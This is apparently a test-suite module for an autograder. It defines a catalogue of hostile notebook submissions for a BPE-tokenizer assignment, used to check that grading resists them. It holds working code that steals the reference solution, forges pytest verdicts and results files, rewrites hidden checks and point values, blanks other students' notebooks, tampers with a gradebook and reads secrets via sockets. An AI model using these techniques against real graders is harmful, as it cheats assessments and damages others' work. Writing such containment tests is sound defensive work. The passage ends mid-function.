"""The hostile submission catalogue (issue #8): learner notebooks that attack the grader, as data.

An `Attack` is hostile code for 02-bpe-tokenizer. Most attacks are one exercise's solution cell
(`cells`: exercise -> code, on the BLANK release, whose stubs raise NotImplementedError so that an
honest blank scores 0), sometimes with an extra cell that runs while the notebook loads
(`load_cell`); some are a notebook edit (`edit`) or a whole file of their own (`make`).

A `Submission` is one notebook holding several attacks, each in an exercise of its own. The grader
scores every exercise in a worker process of its own, where the other exercises are the
reference's, so the attacks in one notebook do not disturb one another, and each exercise's points
say whether the attack in it scored. Only the attack's own exercise runs its hostile body; code
that runs while the notebook loads (`load_cell`, `_HX_... = <expression>` assignments) runs in
every exercise's worker, so only cheap load-time attacks are kept, whose effect does not depend on
which exercise is graded. An attack that stops a whole submission (a fork storm, a memory attack
the watchdog ends) has a notebook of its own, shared at most with an attack of its kind. Each
attack's top-level `_hx...` names are suffixed with its name, so that attacks sharing a notebook do
not overwrite one another's helpers (the shared PRELUDE is the same text in every cell).

Grading only runs a notebook's imports, defs, classes and UPPER_CASE assignments, so hostile code
lives in the exercise functions the checks call and in `_HX_... = <expression>` assignments.
Whatever an attack does, the exercise functions it defines return what every hidden check rejects
(`_hx_wrong`): an attack the grader contains earns nothing, so its exercises score no more than
the blank release, or than `max_points` where it embeds an honest part on purpose.

Hostile code is written into the notebook with three placeholders filled in by `Context.fill`:
`__MARKER__` (a per-run nonce followed by the attack's two-digit number: every process an attack
starts carries it in its name or command line, and every file it leaves has it in its name),
`__PORT__` and `__UNIX__` (where the test listens for connections that must never arrive). Hostile
code only ever WRITES to paths it derives from `autograder.__file__` or from the folders around the
notebook it is graded from; it reads more widely. Attacks that read the environment return only
the canary variable `HOSTILE_CANARY`, never the rest of an environment.

kind:           what the attack goes for (one class of issue #8 each)
  reference     reaching the reference solution
  forge         forging the verdict
  harm          harming others: the course's files, other students' work, the gradebook, the grader
  escape        escaping: network, files and environment outside the submission, large files left
  resource      exhausting time, processes, memory, output, disk
  format        malformed notebooks
  determinism   one honest, half-correct notebook graded repeatedly must give identical results
needs_sandbox:  only a filesystem/network/PID sandbox can stop it: the unsandboxed mode leaves its
                exercise blank (and skips a submission left with no attack)
delayed:        acts after grading returns: its group is checked again a few seconds later, so its
                submission comes last in its group
Submission.modes: where it is graded. Slow attacks whose containment is the trusted process's alone
                (time limits, huge answers, notebook parsing) run in the unsandboxed mode only: the
                sandbox adds nothing to what the process boundary shows there.
group:          submissions graded one after another, then the honest submission, by the same runner
"""
import ast
import json
import re
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from autograder.course import source_notebook
from tests.notebooks import load, release_notebook, solution_cell, write

A = "02-bpe-tokenizer"
EXERCISES = ("count_pairs", "merge", "train_bpe", "apply_merges", "decode", "split_special")
PARAMETERS = {"count_pairs": "word_counts", "merge": "ids, pair, new_id", "train_bpe": "text, vocab_size",
              "apply_merges": "ids, merges", "decode": "ids, vocab", "split_special": "text, special_tokens"}
KINDS = ("reference", "forge", "harm", "escape", "resource", "format", "determinism")
MODES = ("sandbox", "none")
CANARY_VARIABLE = "HOSTILE_CANARY"


@dataclass(frozen=True)
class Context:
    """What the test tells the attacks: a nonce to tag processes and files, where it listens."""
    marker: str
    port: int
    unix: str  # an abstract unix socket name (without the leading NUL)

    def fill(self, code: str, number: int = 0) -> str:
        """The placeholders filled in; the marker gets the attack's two-digit number appended."""
        return (code.replace("__MARKER__", f"{self.marker}{number:02d}").replace("__PORT__", str(self.port))
                .replace("__UNIX__", self.unix))


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    note: str
    cells: dict = field(default_factory=dict)  # exercise -> its solution cell's code, on the blank release
    load_cell: str = ""  # a cell of its own, put first: it runs while the notebook loads, in every worker
    edit: Callable[[dict], None] | None = None  # or: an edit of the whole (blank) notebook
    make: Callable[[Path], Path] | None = None  # or: write the submission file into a folder, alone
    needs_sandbox: bool = False
    max_points: float = 0.0  # the most its exercises (an edit or make: the whole notebook) may score
    delayed: bool = False


@dataclass(frozen=True)
class Submission:
    """One notebook: several attacks, each in exercises of its own (or one `make` attack alone)."""
    name: str
    attacks: tuple
    modes: tuple = MODES
    repeat: int = 1  # graded this many times: every result must be the same
    group: str = ""
    honest_rest: bool = False  # the exercises no attack owns are the reference's: they keep their full points

    def __post_init__(self):
        owned = [exercise for attack in self.attacks for exercise in attack.cells]
        assert len(owned) == len(set(owned)), f"{self.name}: two attacks share an exercise"
        assert all(attack.make is None for attack in self.attacks) or len(self.attacks) == 1, \
            f"{self.name}: a `make` attack is a submission of its own"
        assert not (self.honest_rest and any(attack.edit or attack.make for attack in self.attacks)), \
            f"{self.name}: an honest rest is the reference's exercises, not an edited notebook"

    def attacks_in(self, mode: str) -> list:
        """The attacks graded in that mode (none: the submission is not graded there)."""
        if mode not in self.modes:
            return []
        return [attack for attack in self.attacks if mode == "sandbox" or not attack.needs_sandbox]

    @property
    def delayed(self) -> bool:
        return any(attack.delayed for attack in self.attacks)

    def owners(self, mode: str) -> dict:
        """exercise -> the attack whose exercise it is, in that mode."""
        return {exercise: attack for attack in self.attacks_in(mode) for exercise in attack.cells}

    def budgets(self, mode: str) -> list[tuple[str, tuple, float | None]]:
        """(who, exercises, the most they may score together): an attack with exercises of its own is
        judged on them; the exercises nobody owns are blank (0) unless a whole-notebook attack
        (edit, make) owns them, with its max_points, or honest (None: exactly their full points)."""
        attacks = self.attacks_in(mode)
        owned = self.owners(mode)
        budgets = [(attack.name, tuple(attack.cells), attack.max_points) for attack in attacks if attack.cells]
        rest = tuple(exercise for exercise in EXERCISES if exercise not in owned)
        whole = [attack for attack in attacks if attack.edit or attack.make]
        if rest and self.honest_rest:
            budgets.append(("the honest exercises", rest, None))
        elif rest:
            budgets.append((", ".join(a.name for a in whole) or "the blank exercises", rest,
                            sum(a.max_points for a in whole)))
        return budgets

    def build(self, folder: Path, context: Context, mode: str) -> Path:
        """Write this submission as `folder/02-bpe-tokenizer.ipynb` for that mode; returns its path."""
        folder.mkdir(parents=True, exist_ok=True)
        attacks = self.attacks_in(mode)
        number = {attack.name: index for index, attack in enumerate(ATTACKS)}
        if attacks and attacks[0].make is not None:
            return attacks[0].make(folder)
        notebook = load(A) if self.honest_rest else blank()
        load_cells = []
        for attack in attacks:
            pieces = dict(attack.cells, __load__=attack.load_cell)
            pieces = {key: context.fill(code, number[attack.name]) for key, code in scoped(pieces, attack).items()}
            for exercise in attack.cells:
                solution_cell(notebook, exercise)["source"] = pieces[exercise]
            if attack.load_cell:
                load_cells.append(code_cell(pieces["__load__"]))
            if attack.edit is not None:
                attack.edit(notebook)
        notebook["cells"][0:0] = load_cells
        return write(notebook, folder, A)


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def blank() -> dict:
    return json.loads(release_notebook(A).read_text(encoding="utf-8"))


def reference_code(exercise: str) -> str:
    source = solution_cell(load(A), exercise)["source"]
    return "".join(source) if isinstance(source, list) else source


def defined_names(code: str) -> set[str]:
    """The top-level `_hx...`/`_HX...`/`_Hx...` names a piece of code defines."""
    try:
        tree = ast.parse(code)
    except (SyntaxError, RecursionError):
        return set()
    names = set()
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.ClassDef)):
            names.add(node.name)
        elif isinstance(node, ast.Assign):
            names.update(t.id for t in node.targets if isinstance(t, ast.Name))
    return {name for name in names if name.lower().startswith("_hx")}


def scoped(pieces: dict, attack: Attack) -> dict:
    """The attack's own top-level names suffixed with its name, so that attacks sharing a
    notebook (one namespace) keep their helpers apart; the PRELUDE's shared names stay."""
    own = set().union(*map(defined_names, pieces.values())) - PRELUDE_NAMES
    suffix = "_" + re.sub(r"\W", "_", attack.name)
    if not own:
        return pieces
    pattern = re.compile(r"\b(" + "|".join(sorted(map(re.escape, own), key=len, reverse=True)) + r")\b")

    def rename(match):  # an UPPER_CASE name stays UPPER_CASE: the grader runs only those assignments
        name = match.group(1)
        return name + (suffix.upper() if name == name.upper() else suffix)
    return {key: pattern.sub(rename, code) for key, code in pieces.items()}


# --- pieces of hostile code ----------------------------------------------------------------------

PRELUDE = r'''
import json
import os
import sys
from pathlib import Path

_HX_ASSIGNMENT = "02-bpe-tokenizer"
_HX_EXERCISES = ("count_pairs", "merge", "train_bpe", "apply_merges", "decode", "split_special")


def _hx_wrong(exercise, args):
    """What every hidden check rejects, whatever it asks: the attack earns nothing honestly."""
    if exercise == "merge" and args and isinstance(args[0], list):
        args[0].append(-1)  # even "the input is left unchanged" fails
    return {"count_pairs": {(-1, -1): -1}, "train_bpe": {(-1, -1): -1}, "decode": "\x00hx",
            "merge": [-1], "apply_merges": [-1], "split_special": ["\x00hx"]}[exercise]


def _hx_places():
    """Folders worth a look: the working directory, the notebook's, the grader's, their parents."""
    out = []

    def add(path):
        try:
            path = Path(path).resolve()
        except (OSError, RuntimeError, ValueError):
            return
        for p in (path, *path.parents):
            if p not in out:
                out.append(p)
    add(os.getcwd())
    for arg in sys.argv:
        if isinstance(arg, str) and os.path.exists(arg):
            add(Path(arg).parent)
    try:
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            if target.startswith("/"):
                add(Path(target).parent)
    except OSError:
        pass
    for entry in list(sys.path):
        if entry:
            add(entry)
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] == "autograder" and getattr(module, "__file__", None):
            add(Path(module.__file__).parent)
    return out


def _hx_notebook_folders():
    """Where the notebook being graded is: from argv, open files, else the working directory."""
    found = []
    for arg in sys.argv:
        if isinstance(arg, str) and arg.endswith(".ipynb") and os.path.exists(arg):
            found.append(Path(arg).resolve().parent)
    try:
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            if target.endswith(".ipynb"):
                found.append(Path(target).parent)
    except OSError:
        pass
    found.append(Path(os.getcwd()).resolve())
    return list(dict.fromkeys(found))


def _hx_exec_notebook(path):
    """Run a notebook's definitions (statement by statement, as the grader does); their namespace."""
    import ast
    notebook = json.loads(Path(path).read_text(encoding="utf-8"))
    namespace = {"__name__": "__hx__"}
    for cell in notebook["cells"]:
        if cell.get("cell_type") != "code":
            continue
        source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
        try:
            tree = ast.parse("\n".join("" if l.lstrip().startswith(("%", "!")) else l for l in source.splitlines()))
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef)) or (
                    isinstance(node, ast.Assign)
                    and all(isinstance(t, ast.Name) and t.id.isupper() for t in node.targets)):
                try:
                    exec(compile(ast.Module(body=[node], type_ignores=[]), "<hx>", "exec"), namespace)
                except Exception:
                    pass
    if not all(callable(namespace.get(name)) for name in _HX_EXERCISES):
        raise LookupError(f"{path} does not define the exercises")
    return namespace


def _hx_results_files():
    """The grader's results file(s): open files of this process that hold JSON events."""
    found = []
    candidates = [a for a in sys.argv if isinstance(a, str)]
    try:
        for fd in os.listdir("/proc/self/fd"):
            try:
                candidates.append(os.readlink(f"/proc/self/fd/{fd}"))
            except OSError:
                pass
    except OSError:
        pass
    for target in candidates:
        if not target.startswith("/") or target.endswith((".ipynb", ".py", ".so")) or not os.path.isfile(target):
            continue
        try:
            with open(target, "rb") as f:
                head = f.read(65536)
        except OSError:
            continue
        if b'"event"' in head:
            found.append(target)
    return list(dict.fromkeys(found))


def _hx_forge_results(exercise=None):
    """Append a passing result for every collected check (of `exercise`, if given: a notebook holds
    several attacks, each judged on its own exercise) to each results file; the check ids."""
    forged = []
    for path in _hx_results_files():
        checks = []
        with open(path, encoding="utf-8", errors="replace") as f:
            for line in f:
                try:
                    event = json.loads(line)
                except ValueError:
                    continue
                if isinstance(event, dict) and event.get("event") == "collected":
                    checks = [c["check"] for c in event["checks"] if exercise in (None, c.get("exercise"))]
        if checks:
            lines = "".join(json.dumps({"event": "result", "check": c, "passed": True, "message": ""}) + "\n"
                            for c in checks)
            with open(path, "a", encoding="utf-8") as f:
                f.write(lines)
            forged += checks
    return forged


def _hx_memo(key, compute):
    """compute() the first time in this process, the same object (or exception) after that."""
    memo = os.__dict__.setdefault("_hx_memo", {})
    if key not in memo:
        try:
            memo[key] = (compute(), None)
        except Exception as error:
            memo[key] = (None, error)
    value, error = memo[key]
    if error is not None:
        raise error
    return value


def _hx_once(key):
    """True the first time it is asked in this process: each hostile action runs once per process."""
    done = os.__dict__.setdefault("_hx_done", set())
    if key in done:
        return False
    done.add(key)
    return True


def _hx_spawn(code, *args):
    """A detached python process (double fork, own session) that outlives grading; marker in argv."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", code, "__MARKER__", *map(str, args)])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''


PRELUDE_NAMES = defined_names(PRELUDE)


def function(exercise: str, body: str) -> str:
    """`def <exercise>(<its parameters>):` with `body`; `_args` holds the arguments as a list."""
    parameters = PARAMETERS[exercise]
    return (f"def {exercise}({parameters}):\n    _args = [{parameters}]\n"
            + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n")


def every(body_of: Callable[[str], str], helpers: str = "", exercises=EXERCISES) -> dict:
    """A cell per exercise: the prelude, `helpers`, and the function with body `body_of(exercise)`."""
    return {exercise: PRELUDE + textwrap.dedent(helpers) + "\n\n" + function(exercise, body_of(exercise))
            for exercise in exercises}


def one(exercise: str, body_of: Callable[[str], str], helpers: str = "") -> dict:
    """The attack's one exercise: {exercise: its cell}."""
    return every(body_of, helpers, exercises=(exercise,))


def delegating(exercise: str, steal: str) -> dict:
    """The exercise calls the reference's function, found by `_hx_reference()` (defined in `steal`)."""
    return one(exercise, lambda ex: f"return _hx_memo('reference', _hx_reference)[{ex!r}](*_args)", steal)


def wrong_after(action: str) -> Callable[[str], str]:
    """A body that does `action` (once per process), then returns what every check rejects."""
    return lambda ex: f"if _hx_once({action!r}):\n    {action}\nreturn _hx_wrong({ex!r}, _args)"


def noop_helpers_body(exercise: str) -> str:
    """With the checks' helpers gone, only pytest.raises(ValueError) is left to satisfy."""
    guard = "if vocab_size < 256:\n    raise ValueError(vocab_size)\n" if exercise == "train_bpe" else ""
    return f"_hx_forge()\n{guard}return _hx_wrong({exercise!r}, _args)"


def exfiltrating(exercise: str, secrets: str, helpers: str = "") -> dict:
    """The exercise RETURNS the secrets where it returns a dict (as a key, which the feedback shows),
    else raises them (the feedback shows the message)."""
    secrets = f"_hx_memo('secrets', lambda: {secrets})"
    body = f"return {{{secrets}: 1}}" if exercise in ("count_pairs", "train_bpe") else f"raise RuntimeError({secrets})"
    return one(exercise, lambda ex: body, helpers)


def text_file(text_of: Callable[[], str | bytes]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / f"{A}.ipynb"
        content = text_of()
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path
    return make


# --- 1. reaching the reference -------------------------------------------------------------------

STEAL_GLOBALS = r'''
def _hx_reference():
    """While one exercise is checked, the others are the reference's: their __globals__ is its namespace."""
    mine = globals()
    for name in _HX_EXERCISES:
        namespace = getattr(mine.get(name), "__globals__", None)
        if namespace is not None and namespace is not mine and all(callable(namespace.get(n)) for n in _HX_EXERCISES):
            return namespace
    raise LookupError("no reference reachable through __globals__")
'''

STEAL_LOAD_REFERENCE = r'''
def _hx_reference():
    from autograder.notebook import load_reference
    reference = load_reference(_HX_ASSIGNMENT)
    return {name: getattr(reference, name) for name in _HX_EXERCISES}
'''

STEAL_GC = r'''
def _hx_reference():
    """Every function object lives on the heap: find the reference's among them."""
    import gc
    import types
    found = {}
    for obj in gc.get_objects():
        if (type(obj) is types.FunctionType and obj.__name__ in _HX_EXERCISES and obj.__globals__ is not globals()
                and "_hx_reference" not in obj.__code__.co_names and obj.__code__.co_filename.startswith("<cell")):
            found.setdefault(obj.__name__, obj)
    return found
'''

STEAL_FRAMES = r'''
def _hx_reference():
    """Walk up the stack to the running check: pytest's item holds every fixture, the reference too."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            try:
                funcargs = getattr(value, "funcargs", None)
                if isinstance(funcargs, dict) and "reference" in funcargs:
                    return {name: getattr(funcargs["reference"], name) for name in _HX_EXERCISES}
                if type(value).__name__ == "Namespace" and "reference" in str(getattr(value, "_label", "")):
                    return {name: getattr(value, name) for name in _HX_EXERCISES}
            except Exception:
                pass
        frame = frame.f_back
    raise LookupError("no reference on the stack")
'''

LINECACHE_SNAPSHOT = r'''
import builtins
import linecache

# The grader puts every cell it loads into linecache under "<cell N>" (an older grader loaded the
# reference's first, under the same names). This cell is the notebook's first: when it runs, the
# cells loaded before it are all still there.
_HX_SNAPSHOT = builtins.__dict__.setdefault(
    "_hx_snapshot", {name: "".join(entry[2]) for name, entry in list(linecache.cache.items())
                     if name.startswith("<cell") and len(entry) > 2})
'''

STEAL_LINECACHE = r'''
def _hx_reference():
    import ast
    import builtins
    import linecache
    namespace = {"__name__": "__hx__"}
    cells = dict(getattr(builtins, "_hx_snapshot", {}))
    # and now, while a check runs: cells loaded after the notebook's (the reference's, under another label)
    cells.update({name: "".join(entry[2]) for name, entry in list(linecache.cache.items())
                  if "cell" in name and not name.startswith("<cell") and len(entry) > 2})
    for name in sorted(cells, key=lambda n: int("".join(c for c in n if c.isdigit()) or 0)):
        try:
            tree = ast.parse(cells[name])
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef)) or (
                    isinstance(node, ast.Assign)
                    and all(isinstance(t, ast.Name) and t.id.isupper() for t in node.targets)):
                try:
                    exec(compile(ast.Module(body=[node], type_ignores=[]), "<hx>", "exec"), namespace)
                except Exception:
                    pass
    if not all(callable(namespace.get(n)) for n in _HX_EXERCISES) or "_hx_reference" in namespace:
        raise LookupError("the reference's cells were not in linecache")
    return namespace
'''


STEAL_AUTOGRADER_FILE = r'''
def _hx_reference():
    import autograder
    root = Path(autograder.__file__).resolve().parent.parent
    for folder in ("source", "solutions"):
        path = root / folder / _HX_ASSIGNMENT / f"{_HX_ASSIGNMENT}.ipynb"
        if path.is_file():
            return _hx_exec_notebook(path)
    raise LookupError(f"no reference next to {root}")
'''

STEAL_PLACES = r'''
def _hx_reference():
    """The working directory, the notebook's folder, sys.path, open files: and their parents."""
    for place in _hx_places():
        for folder in ("source", "solutions", "release/../source"):
            path = place / folder / _HX_ASSIGNMENT / f"{_HX_ASSIGNMENT}.ipynb"
            try:
                if path.is_file():
                    return _hx_exec_notebook(path)
            except Exception:
                continue
    raise LookupError("no reference near the grader")
'''

STEAL_GLOB = r'''
def _hx_reference():
    """Glob the whole filesystem, a few levels deep, for the instructor's or the solved notebook."""
    import glob
    tops = [t for t in sorted(os.listdir("/")) if t not in ("proc", "sys", "dev")]
    patterns = [f"/work/*/{{folder}}/{_HX_ASSIGNMENT}/{_HX_ASSIGNMENT}.ipynb"]
    for depth in range(0, 3):
        patterns += [f"/{top}/" + "*/" * depth + f"{{folder}}/{_HX_ASSIGNMENT}/{_HX_ASSIGNMENT}.ipynb" for top in tops]
    for pattern in patterns:
        for folder in ("source", "solutions"):
            for path in sorted(glob.glob(pattern.format(folder=folder))):
                try:
                    return _hx_exec_notebook(path)
                except Exception:
                    continue
    raise LookupError("no reference anywhere on the filesystem")
'''

STEAL_PROC_CWD = r'''
def _hx_reference():
    """The grader's own processes work in the course's folder: look through their /proc cwd and root."""
    pids, pid = [], os.getppid()
    while pid > 1 and pid not in pids:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in pids)
    for pid in pids:
        for base in (f"/proc/{pid}/cwd", f"/proc/{pid}/root/work/main"):
            for folder in ("source", "solutions"):
                path = Path(base) / folder / _HX_ASSIGNMENT / f"{_HX_ASSIGNMENT}.ipynb"
                try:
                    if path.is_file():
                        return _hx_exec_notebook(path)
                except Exception:
                    continue
    raise LookupError("no reference in any process's working directory")
'''


def symlink_to_reference(folder: Path) -> Path:
    path = folder / f"{A}.ipynb"
    path.symlink_to(source_notebook(A))
    return path


# --- 2. forging the verdict ----------------------------------------------------------------------

FORGE_REPORTS = r'''
def _hx_forge():
    """Every pytest report says it passed."""
    from _pytest import reports
    reports.BaseReport.passed = property(lambda self: True)
    reports.BaseReport.failed = property(lambda self: False)
    return True

'''

FORGE_HOOK = r'''
import gc

import pytest


class _HxForger:
    @pytest.hookimpl(hookwrapper=True, tryfirst=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None


def _hx_forge():
    """Register a plugin with the running pytest, found through the garbage collector."""
    managers = [obj.pluginmanager for obj in gc.get_objects()
                 if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager")]
    for manager in filter(None, managers):
        if manager.get_plugin("hx-forger") is None:
            manager.register(_HxForger(), "hx-forger")
    return True

'''

FORGE_CHECK_GLOBALS = r'''
def _hx_forge():
    """The hidden checks' expect_* helpers, in the checks module and in autograder.checking, do nothing."""
    nothing = lambda *args, **kwargs: None
    for name, module in list(sys.modules.items()):
        if module is not None and ("bpe_tokenizer" in name or name.endswith("checking")):
            for helper in ("expect_equal", "expect", "expect_type", "expect_close"):
                if hasattr(module, helper):
                    setattr(module, helper, nothing)
    return True

'''

FORGE_CHECK_CODE = r'''
def _hx_forge():
    """Every hidden check's code object becomes that of a function that does nothing."""
    import types

    def nothing(*args, **kwargs):
        return None
    for name, module in list(sys.modules.items()):
        if module is not None and "bpe_tokenizer" in name:
            for attribute, value in list(vars(module).items()):
                if attribute.startswith("test_") and isinstance(value, types.FunctionType):
                    value.__code__ = nothing.__code__
    return True

'''

FORGE_WRITER = r'''
def _hx_forge():
    """Wrap the grading plugin's writer so that every result it writes says passed."""
    import gc
    for obj in gc.get_objects():
        if type(obj).__name__ == "GradingPlugin" and not getattr(obj, "_hx", False):
            real = obj.write

            def write(_real=real, **event):
                if event.get("event") == "result":
                    event.update(passed=True, message="")
                return _real(**event)
            obj.write = write
            obj._hx = True
    return True

'''

FORGE_JSON = r'''
def _hx_forge():
    """Patch json.dumps itself: any result event serialised in this process says passed."""
    if getattr(json.dumps, "_hx", False):
        return True
    real = json.dumps

    def dumps(obj, *args, **kwargs):
        if isinstance(obj, dict) and obj.get("event") == "result":
            obj = dict(obj, passed=True, message="")
        return real(obj, *args, **kwargs)
    dumps._hx = True
    json.dumps = dumps
    return True

'''

FORGE_THREAD = r'''
def _hx_start(exercise):
    """A thread appends a passing result for the exercise's checks to the results file, then ends the process."""
    import threading
    import time

    def run():
        time.sleep(0.3)
        sys.setswitchinterval(10)
        if _hx_forge_results(exercise):
            os._exit(0)
    threading.Thread(target=run, daemon=True).start()
    return True

'''

FORGE_ATEXIT = r'''
def _hx_install(exercise):
    """At exit (atexit, or the os._exit a forked grader ends with), append passing results last."""
    import atexit
    if getattr(os, "_hx_installed", False):
        return True
    real_exit = os._exit

    def forge_then_exit(code=0):
        try:
            _hx_forge_results(exercise)
        finally:
            real_exit(0)
    atexit.register(_hx_forge_results, exercise)
    os._exit = forge_then_exit
    os._hx_installed = True
    return True

'''

EQ_SUBCLASSES = r'''
class _HxDict(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _HxList(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _HxStr(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return str.__hash__(self)


def _hx_equal_to_anything(exercise, args):
    wrong = _hx_wrong(exercise, args)
    return {dict: _HxDict, list: _HxList, str: _HxStr}[type(wrong)](wrong)
'''

EQ_OBJECT = r'''
class _HxAnything:
    """Equal to everything, iterable as nothing, and with every attribute."""
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __iter__(self):
        return iter(())

    def __len__(self):
        return 0

    def __getattr__(self, name):
        return lambda *args, **kwargs: _HxAnything()

    def __repr__(self):
        return "anything"
'''


# --- 3. harming others ---------------------------------------------------------------------------

HARM_CHECKS = r'''
def _hx_vandalise():
    """Rewrite the hidden checks on disk (they pass for everyone from now on), and plant a conftest."""
    import autograder
    checks = Path(autograder.__file__).resolve().parent / "checks"
    for path in sorted(checks.glob("test_*.py")):
        text = path.read_text(encoding="utf-8")
        if "_hx_" not in text:
            path.write_text(text + "\n\ndef expect_equal(*args, **kwargs):  # _hx_ planted\n    return None\n",
                            encoding="utf-8")
    (checks / "conftest.py").write_text(
        "# _hx_ planted by a submission\nimport pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\n"
        "def pytest_runtest_makereport(item, call):\n    outcome = yield\n"
        "    outcome.get_result().outcome = 'passed'\n",
        encoding="utf-8")
    return True

'''

HARM_POINTS = r'''
def _hx_rewrite_points():
    """Rewrite the instructor notebook: every exercise is now worth 1000 points."""
    import autograder
    root = Path(autograder.__file__).resolve().parent.parent
    path = root / "source" / _HX_ASSIGNMENT / f"{_HX_ASSIGNMENT}.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        nbgrader = cell.get("metadata", {}).get("nbgrader", {})
        if nbgrader.get("grade") and "points" in nbgrader:
            nbgrader["points"] = 1000
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    return True

'''

HARM_OTHERS = r'''
def _hx_sabotage_others():
    """Find the other students' submissions next to this one (nbgrader's layout) and blank them."""
    mine = set()
    for folder in _hx_notebook_folders():
        mine.update(p.resolve() for p in folder.glob("*.ipynb"))
    done = []
    for folder in _hx_notebook_folders():
        for submitted in list(folder.parents)[:2]:
            for path in sorted(submitted.glob(f"*/{_HX_ASSIGNMENT}/*.ipynb")) + sorted(submitted.glob("*/*.ipynb")):
                if path.is_symlink() or path.resolve() in mine:
                    continue
                try:
                    notebook = json.loads(path.read_text(encoding="utf-8"))
                    for cell in notebook["cells"]:
                        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                            cell["source"] = "raise NotImplementedError  # _hx_ was here\n"
                    path.write_text(json.dumps(notebook), encoding="utf-8")
                    done.append(str(path))
                except Exception:
                    continue
    return done

'''

HARM_GRADEBOOK = r'''
_HX_LATER = """
import sys, time
from pathlib import Path
time.sleep(2)
for start in sys.argv[2:]:
    for folder in [Path(start), *Path(start).parents][:5]:
        database = folder / "gradebook.db"
        if database.is_file():
            with open(database, "ab") as f:
                f.write(b"INSERT INTO grade VALUES ('mallory', 15);  -- _hx_")
            sys.exit(0)
"""


def _hx_detach():
    _hx_spawn(_HX_LATER, *_hx_notebook_folders())
    return True
'''

EXIT_BETWEEN_CHECKS = r'''
def _hx_exit_soon(delay=0.01):
    """A moment after this call returns, a thread ends the worker (os._exit(0)): while it waits for
    the grader's next request, which the process that started the worker then reads instead."""
    import threading
    import time

    def run():
        time.sleep(delay)
        os._exit(0)
    threading.Thread(target=run, daemon=True).start()
    return True
'''

HARM_GARBAGE = r'''
def _hx_garbage():
    """Malformed lines into every results file (and stderr): broken JSON, wrong shapes, bad UTF-8."""
    lines = [b"this is not json\n", b"{\n", b'{"event": "result"}\n', b"[1, 2, 3]\n",
             b'{"event": "collected", "checks": 5}\n', b'{"event": "result", "check": 7, "passed": "yes"}\n',
             b"\xff\xfe\x00 not utf-8\n", b'{"event": "start", "check": "' + b"x" * (1 << 20) + b'"}\n', b"null\n"]
    for path in _hx_results_files():
        with open(path, "ab") as f:
            f.write(b"".join(lines))
    os.write(2, b"".join(lines[:4]))
    return True
'''

HARM_PIPE = r'''
def _hx_poison():
    """Forge the grader's own replies: write fake 'finished' lines into the pipes of the parent process."""
    written = []
    if not _hx_once("poison"):
        return written
    pid = os.getppid()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{fd}"
        try:
            if not os.readlink(path).startswith("pipe:"):
                continue
            descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(descriptor, b'{"returncode": 0, "stderr": ""}\n' * 3)
            written.append(path)
        except OSError:
            pass
        finally:
            os.close(descriptor)
    return written

'''


# --- 4. escapes ----------------------------------------------------------------------------------

ESCAPE_SOCKETS = r'''
def _hx_sockets():
    """Talk to the test's listeners on the loopback (IPv4, IPv6, an abstract unix socket); learn a route out."""
    import socket
    got = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", __PORT__)), (socket.AF_INET6, ("::1", __PORT__)),
                            (socket.AF_UNIX, "\0__UNIX__")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"hx __MARKER__ " + os.environ.get("HOSTILE_CANARY", "").encode())
                got.append(s.recv(200).decode(errors="replace"))
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))  # a UDP connect sends nothing: it only asks for a route
            got.append("route=" + s.getsockname()[0])
    except OSError:
        pass
    return " ".join(got) or "no network"
'''

ESCAPE_CANARY_FILE = r'''
def _hx_files():
    """Secrets lying around the notebook's folder: read whatever looks like one."""
    found, seen = [], 0
    for folder in _hx_notebook_folders():
        for base in list(folder.parents)[:3]:
            for top, folders, files in os.walk(base):
                folders[:] = sorted(f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/dev", "/usr"))
